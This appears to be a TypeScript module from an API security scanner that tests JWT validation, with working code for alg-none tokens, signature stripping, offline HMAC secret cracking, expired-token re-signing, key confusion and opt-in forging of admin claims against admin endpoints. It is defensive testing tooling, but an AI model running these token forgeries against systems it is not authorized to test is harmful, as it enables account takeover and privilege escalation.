/**
 * API2: JWT validation flaws, tested with the identity's own token: `alg: none`, the signature
 * stripped or altered, an HMAC secret from a small wordlist (cracked offline, then proven with a
 * re-signed token), an expired token (re-signed with the cracked secret, the only way to make an
 * expired token the server could otherwise trust), and RS/ES → HS256 key confusion with a public
 * key published at /.well-known/jwks.json.
 */
import { createHmac, createPublicKey, type JsonWebKey, timingSafeEqual } from 'node:crypto'
import { adminReason } from '../resources.js'
import type { Check, Finding, ScanContext, ScanResponse, Severity } from '../types.js'
import { SkipCheck } from '../types.js'
import { JWT_WORDLIST } from './jwt-wordlist.js'
import { type AuthProbe, acceptedLike, authProbe, finding, opOf } from './probe.js'
import { fillOperation } from './targets.js'

/** The built-in wordlist (thousands of entries, see jwt-wordlist.ts); tried offline against the token's HMAC. */
export const WEAK_SECRETS: readonly string[] = JWT_WORDLIST

const HASH: Record<string, string> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' }

interface Jwt {
  header: Record<string, unknown>
  payload: Record<string, unknown>
  headerPart: string
  payloadPart: string
  signature: string
}

function b64url(data: string | Buffer): string {
  return Buffer.from(data).toString('base64url')
}

export function parseJwt(token: string): Jwt | undefined {
  const parts = token.split('.')
  if (parts.length !== 3 || token.length > 16_384) return undefined
  const [h, p, s] = parts as [string, string, string]
  try {
    const header = JSON.parse(Buffer.from(h, 'base64url').toString('utf8')) as unknown
    const payload = JSON.parse(Buffer.from(p, 'base64url').toString('utf8')) as unknown
    if (!isRecord(header) || !isRecord(payload) || typeof header.alg !== 'string') return undefined
    return { header, payload, headerPart: h, payloadPart: p, signature: s }
  } catch {
    return undefined
  }
}

function isRecord(v: unknown): v is Record<string, unknown> {
  return v !== null && typeof v === 'object' && !Array.isArray(v)
}

export function hmacSign(alg: string, secret: string | Buffer, header: object, payload: object): string {
  const signingInput = `${b64url(JSON.stringify(header))}.${b64url(JSON.stringify(payload))}`
  const sig = createHmac(HASH[alg] ?? 'sha256', secret)
    .update(signingInput)
    .digest('base64url')
  return `${signingInput}.${sig}`
}

/** The wordlist entry that produced the token's HMAC signature, if any (offline, constant-time compare). */
export function crackHmac(jwt: Jwt, words: readonly string[] = WEAK_SECRETS): string | undefined {
  const hash = HASH[String(jwt.header.alg)]
  if (!hash) return undefined
  let expected: Buffer
  try {
    expected = Buffer.from(jwt.signature, 'base64url')
  } catch {
    return undefined
  }
  const input = `${jwt.headerPart}.${jwt.payloadPart}`
  for (const word of words) {
    const sig = createHmac(hash, word).update(input).digest()
    if (sig.length === expected.length && timingSafeEqual(sig, expected)) return word
  }
  return undefined
}

/** Shows a cracked secret without repeating it: first character, length. */
function hint(secret: string, builtIn: boolean): string {
  return `"${secret.slice(0, 1)}…" (${secret.length} characters, from ${builtIn ? 'the built-in wordlist' : 'the --jwt-wordlist file'})`
}

/** The same claims with every role-like claim raised to admin (or admin claims added). */
export function escalate(payload: Record<string, unknown>): Record<string, unknown> {
  const out: Record<string, unknown> = { ...payload }
  let changed = false
  for (const [k, v] of Object.entries(payload)) {
    if (/^(is_?)?admin$|^(is_?)?superuser$|^staff$/i.test(k) && typeof v === 'boolean') {
      out[k] = true
      changed = true
    } else if (/^(role|user_?role|type|group)$/i.test(k) && typeof v === 'string') {
      out[k] = 'admin'
      changed = true
    } else if (/^(roles|groups|authorities|permissions)$/i.test(k) && Array.isArray(v)) {
      out[k] = [...v, 'admin', 'ROLE_ADMIN']
      changed = true
    } else if (/^(scope|scp)$/.test(k) && typeof v === 'string') {
      out[k] = `${v} admin`
      changed = true
    }
  }
  if (!changed) Object.assign(out, { admin: true, isAdmin: true, role: 'admin' })
  return out
}

export const jwtWeaknesses: Check = {
  id: 'jwt-weaknesses',
  title: 'JWT validation weakness',
  owasp: 'API2:2023',
  severity: 'critical',
  description:
    "Tampers with the identity's JWT and replays it on an authenticated operation: alg none, signature " +
    'stripped or altered, HMAC secret from a small wordlist (cracked offline), an expired token re-signed ' +
    'with a cracked secret, and RS/ES → HS256 key confusion with a key from /.well-known/jwks.json.',
  why:
    'A server that accepts an unsigned, altered or forged token lets anyone become any user (or an admin) ' +
    'by editing the claims; a guessable HMAC secret has the same effect, offline and silently.',
  fix:
    'Verify every token with a maintained library, with the algorithm pinned server-side (never taken from ' +
    'the token), a long random secret or an asymmetric key, and exp/nbf/iss/aud checked.',
  fixExample:
    "import { jwtVerify } from 'jose'\n" +
    "await jwtVerify(token, key, { algorithms: ['RS256'], issuer: 'https://id.example.com', audience: 'api' })\n" +
    '# HS256 secret: at least 32 random bytes, e.g. `openssl rand -base64 48`',
  async run(ctx) {
    if (!ctx.credentials) throw new SkipCheck('the engine does not expose credentials')
    const probe = await authProbe(ctx)
    if (!probe) throw new SkipCheck('no operation that answers 2xx with credentials and 401/403 without')
    const auth = (await ctx.credentials(probe.identity))?.headers.authorization
    const token = auth?.replace(/^bearer\s+/i, '')
    const jwt = token ? parseJwt(token) : undefined
    if (!jwt) throw new SkipCheck(`${probe.identity}'s credential is not a JWT`)
    const findings: Finding[] = []
    /** How a token with other claims can be made, once one technique is proven. */
    let mint: ((payload: Record<string, unknown>) => string) | undefined
    let technique = ''
    const trySend = (t: string): Promise<ScanResponse> =>
      ctx.send(probe.identity, {
        method: 'GET',
        path: probe.path,
        query: probe.query,
        headers: { authorization: `Bearer ${t}` },
        noAuth: true,
      })
    const report = (title: string, severity: Severity, summary: string, note: string, res: ScanResponse) =>
      findings.push(
        finding(this, {
          title,
          severity,
          operation: opOf(probe.op),
          identity: probe.identity,
          summary,
          evidence: [
            { note: 'without credentials: refused', exchanges: [probe.anonymous.exchange] },
            { note, exchanges: [res.exchange] },
          ],
        }),
      )
    const alg = String(jwt.header.alg)

    // 1. An altered signature: when this passes, nothing is verified at all.
    const flipped = `${jwt.headerPart}.${jwt.payloadPart}.${flip(jwt.signature)}`
    const altered = await trySend(flipped)
    if (acceptedLike(probe, altered)) {
      report(
        'JWT signature not verified',
        'critical',
        `A copy of ${probe.identity}'s token with a corrupted signature was accepted (${altered.status}): the API does not verify JWT signatures.`,
        'token with one signature character changed: accepted',
        altered,
      )
      await chain(
        ctx,
        probe,
        (p) => `${b64url(JSON.stringify(jwt.header))}.${b64url(JSON.stringify(p))}.${flip(jwt.signature)}`,
        'a token with any signature',
        findings,
        this,
      )
      return findings
    }

    // 2. alg: none (three spellings), empty signature.
    for (const none of ['none', 'None', 'NONE']) {
      const t = `${b64url(JSON.stringify({ ...jwt.header, alg: none }))}.${jwt.payloadPart}.`
      const res = await trySend(t)
      if (acceptedLike(probe, res)) {
        report(
          'JWT with alg "none" accepted',
          'critical',
          `${probe.identity}'s claims in an unsigned token (header alg "${none}", empty signature) were accepted (${res.status}): anyone can mint tokens for any user.`,
          `unsigned token, header {"alg":"${none}"}: accepted`,
          res,
        )
        mint ??= (p) =>
          `${b64url(JSON.stringify({ ...jwt.header, alg: none }))}.${b64url(JSON.stringify(p))}.`
        technique ||= `an unsigned token (alg "${none}")`
        break
      }
    }

    // 3. Signature stripped, header unchanged.
    const stripped = await trySend(`${jwt.headerPart}.${jwt.payloadPart}.`)
    if (acceptedLike(probe, stripped)) {
      report(
        'JWT with its signature stripped accepted',
        'critical',
        `${probe.identity}'s token without its signature (alg ${alg} kept) was accepted (${stripped.status}).`,
        'token with the signature removed: accepted',
        stripped,
      )
      mint ??= (p) => `${b64url(JSON.stringify(jwt.header))}.${b64url(JSON.stringify(p))}.`
      technique ||= 'a token without signature'
    }

    // 4. Weak HMAC secret, cracked offline; proven by a re-signed token with a new jti.
    const extra = ctx.options?.jwtWordlist ?? []
    const secret = crackHmac(jwt, extra.length > 0 ? [...extra, ...WEAK_SECRETS] : WEAK_SECRETS)
    const builtIn = secret !== undefined && !extra.includes(secret)
    const now = Math.floor(Date.now() / 1000)
    if (secret !== undefined) {
      const forged = hmacSign(alg, secret, jwt.header, { ...jwt.payload, jti: `pcl-${now}`, iat: now })
      const res = await trySend(forged)
      const accepted = acceptedLike(probe, res)
      report(
        'JWT signed with a weak HMAC secret',
        'critical',
        `${probe.identity}'s ${alg} token is signed with the secret ${hint(secret, builtIn)}, found offline in a few ` +
          `milliseconds; ${accepted ? `a token re-signed with it was accepted (${res.status}), so anyone can forge tokens for any user` : `a re-signed token answered ${res.status}`}.`,
        `token re-signed with the cracked secret: ${accepted ? 'accepted' : `answered ${res.status}`}`,
        res,
      )
      if (accepted) {
        mint ??= (p) => hmacSign(alg, secret, jwt.header, p)
        technique ||= 'a token signed with the cracked secret'
      }
      // 5. Expired: only meaningful with a valid signature, which the cracked secret gives.
      const expired = hmacSign(alg, secret, jwt.header, {
        ...jwt.payload,
        iat: now - 7200,
        nbf: now - 7200,
        exp: now - 3600,
      })
      const exp = await trySend(expired)
      if (acceptedLike(probe, exp)) {
        report(
          'Expired JWT accepted',
          'high',
          `A correctly signed token of ${probe.identity} that expired an hour ago (exp ${now - 3600}) was accepted (${exp.status}): stolen tokens never stop working.`,
          'validly signed token with exp one hour in the past: accepted',
          exp,
        )
      }
    } else if (typeof jwt.payload.exp === 'number' && jwt.payload.exp < now) {
      report(
        'Expired JWT accepted',
        'high',
        `${probe.identity}'s own token expired at ${jwt.payload.exp} and is still accepted (${probe.authed.status}).`,
        'the identity’s expired token: accepted',
        probe.authed,
      )
    }

    // 6. Key confusion: an asymmetric token re-signed with HS256 using the published public key.
    if (/^(RS|PS|ES)\d+$/.test(alg)) await keyConfusion(ctx, probe, jwt, trySend, report)
    // 7. Chaining (opt-in): a proven forgery mints an admin identity for operations of higher roles.
    if (mint) await chain(ctx, probe, mint, technique, findings, this)
    return findings
  },
}

/**
 * With `--chain`: forges `probe.identity`'s claims raised to admin with a proven technique and
 * calls the operations meant for admins (reads only in safe mode) that the identity's own token
 * is refused. A 2xx is a finding (API5): the forgery reaches functions of a higher role.
 */
async function chain(
  ctx: ScanContext,
  probe: AuthProbe,
  mint: (payload: Record<string, unknown>) => string,
  technique: string,
  findings: Finding[],
  check: Check,
): Promise<void> {
  if (!ctx.options?.chain || !ctx.forgeIdentity || !ctx.credentials) return
  const auth = (await ctx.credentials(probe.identity))?.headers.authorization
  const jwt = auth ? parseJwt(auth.replace(/^bearer\s+/i, '')) : undefined
  if (!jwt) return
  const now = Math.floor(Date.now() / 1000)
  const forged = mint({ ...escalate(jwt.payload), iat: now, jti: `pcl-chain-${now}` })
  const name = ctx.forgeIdentity(probe.identity, 'forged-admin', { authorization: `Bearer ${forged}` })
  let tried = 0
  for (const op of ctx.operations) {
    if (tried >= 10) break
    if (!adminReason(op)) continue
    if (ctx.safe && op.method !== 'GET') continue
    const req = fillOperation(ctx, op, probe.identity)
    if (!req) continue
    tried++
    const own = await ctx.send(probe.identity, {
      method: op.method,
      path: req.path,
      query: req.query,
      relogin: false,
    })
    if (own.status !== 401 && own.status !== 403) continue
    const res = await ctx.send(name, { method: op.method, path: req.path, query: req.query })
    if (res.status < 200 || res.status > 299) continue
    findings.push(
      finding(check, {
        title: 'Forged token reaches an operation for admins',
        severity: 'critical',
        owasp: 'API5:2023',
        operation: opOf(op),
        identity: probe.identity,
        summary: `${probe.identity}'s claims raised to admin in ${technique} (chaining, --chain) got ${res.status} from ${op.method} ${op.path}, where ${probe.identity}'s own token gets ${own.status}: the token forgery gives anyone the functions of a higher role.`,
        evidence: [
          { note: `${probe.identity}'s own token: ${own.status}`, exchanges: [own.exchange] },
          { note: 'forged admin claims: accepted', exchanges: [res.exchange] },
        ],
      }),
    )
  }
}

async function keyConfusion(
  ctx: Parameters<Check['run']>[0],
  probe: AuthProbe,
  jwt: Jwt,
  trySend: (t: string) => Promise<ScanResponse>,
  report: (title: string, severity: Severity, summary: string, note: string, res: ScanResponse) => void,
): Promise<void> {
  const jwks = await ctx.send(undefined, { method: 'GET', path: '/.well-known/jwks.json' })
  const keys = isRecord(jwks.json) && Array.isArray(jwks.json.keys) ? jwks.json.keys.slice(0, 5) : []
  for (const jwk of keys) {
    if (!isRecord(jwk) || (jwk.kty !== 'RSA' && jwk.kty !== 'EC')) continue
    if (typeof jwt.header.kid === 'string' && typeof jwk.kid === 'string' && jwk.kid !== jwt.header.kid)
      continue
    let pem: string
    try {
      pem = createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' }).export({
        type: 'spki',
        format: 'pem',
      }) as string
    } catch {
      continue
    }
    for (const secret of [pem, pem.trimEnd()]) {
      const t = hmacSign('HS256', secret, { ...jwt.header, alg: 'HS256' }, jwt.payload)
      const res = await trySend(t)
      if (acceptedLike(probe, res)) {
        report(
          'JWT key confusion (public key used as HMAC secret)',
          'critical',
          `A token with ${probe.identity}'s claims, re-signed with HS256 using the public key from /.well-known/jwks.json as the HMAC secret, was accepted (${res.status}): anyone can forge tokens.`,
          'HS256 token signed with the published public key: accepted',
          res,
        )
        return
      }
    }
  }
}

function flip(sig: string): string {
  if (sig.length === 0) return 'AAAA'
  const i = Math.floor(sig.length / 2)
  const c = sig[i] === 'A' ? 'B' : 'A'
  return `${sig.slice(0, i)}${c}${sig.slice(i + 1)}`
}
